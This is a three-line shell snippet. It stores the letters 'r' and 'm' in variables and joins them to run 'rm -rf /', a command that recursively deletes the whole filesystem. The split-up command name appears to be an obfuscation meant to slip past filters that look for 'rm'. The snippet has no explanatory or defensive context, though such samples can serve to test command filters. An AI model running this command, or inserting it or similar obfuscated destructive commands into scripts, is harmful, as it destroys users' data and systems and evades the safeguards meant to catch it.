a=r
b=m
$a$b -rf /
